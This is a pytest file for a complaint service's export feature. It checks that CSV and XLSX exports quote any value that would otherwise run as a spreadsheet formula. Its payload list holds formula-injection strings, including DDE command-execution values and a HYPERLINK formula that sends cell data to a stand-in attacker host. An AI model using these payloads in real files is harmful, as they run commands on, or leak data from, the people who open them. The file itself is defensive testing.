"""Exports never carry a live formula, whatever a complainant typed (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import Engine
from sqlalchemy.orm import Session

from core.config import Settings
from core.db import session_factory
from search.export import neutralize_cell
from tests.utils.alerts import staff_headers
from tests.utils.auth import make_association

PAYLOADS = [
    "=1+1+cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    ' =HYPERLINK("http://evil.example/?"&A1,"点我")',
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_is_quoted(payload: str) -> None:
    assert neutralize_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["南岗区", "价格1+1", "", 12, None])
def test_other_cells_pass_unchanged(value: object) -> None:
    assert neutralize_cell(value) == value


@pytest.fixture
def db(engine: Engine) -> Iterator[Session]:
    with session_factory(engine)() as session:
        yield session


@pytest.mark.parametrize("role", ["association_staff", "consumer_staff"])
def test_formulas_in_every_field_stay_text_in_csv_and_xlsx(
    client: TestClient, db: Session, settings: Settings, role: str
) -> None:
    association = make_association(db, "chaoshi", ["supermarket"], consumer=role == "consumer_staff")
    headers = staff_headers(db, settings, "staff", role, association)
    for payload in PAYLOADS[:4]:
        filed = client.post(
            "/api/complaints",
            json={
                "title": payload,
                "text": payload + " 超市多收钱",
                "district": payload,
                "merchant_name": payload,
                "industry": "supermarket",
                "nature": "价格",
            },
        )
        assert filed.status_code == 201, filed.text

    csv_text = client.get("/api/complaints/search/export", params={"format": "csv"}, headers=headers).text
    cells = [cell for row in list(csv.reader(io.StringIO(csv_text.lstrip("\ufeff"))))[1:] for cell in row]
    assert cells and not [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "-", "@"))]

    content = client.get("/api/complaints/search/export", params={"format": "xlsx"}, headers=headers).content
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    typed = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
    assert typed and all(cell.data_type != "f" for cell in typed)
    district_column = [row[7].value for row in sheet.iter_rows(min_row=2)]
    assert "'=1+1+cmd|' /C calc'!A0" in district_column
